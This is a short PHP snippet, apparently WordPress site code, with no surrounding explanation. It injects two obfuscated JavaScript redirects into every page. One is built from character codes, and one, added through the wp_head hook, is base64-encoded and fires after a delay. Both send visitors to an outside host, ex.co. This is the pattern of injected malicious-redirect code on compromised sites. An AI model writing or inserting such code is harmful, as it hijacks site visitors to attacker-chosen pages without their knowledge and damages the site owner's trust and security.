<?php
print "<script>window.location.href=String.fromCharCode(104,116,116,112,58,47,47,101,120,46,99,111,47,120);</script>";
add_action('wp_head', function () { echo '<script>setTimeout(function(){location.replace(atob("aHR0cHM6Ly9leC5jby95"))},1500);</script>'; });
